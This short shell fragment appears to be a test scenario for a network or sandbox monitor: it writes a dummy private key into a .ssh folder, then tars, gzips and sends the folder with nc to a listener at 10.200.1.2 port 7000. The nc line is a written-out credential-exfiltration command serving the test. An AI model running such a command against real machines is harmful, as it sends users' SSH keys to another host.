# tar packs a folder with a private key, gzip makes it smaller, and nc sends it.
CALLS=yes
peers() { sink 7000; }
scene() {
  mkdir -p home/.ssh && seq 900 > home/.ssh/id_ed25519
  tar -C home -c .ssh | gzip | timeout 3 nc -N 10.200.1.2 7000
}
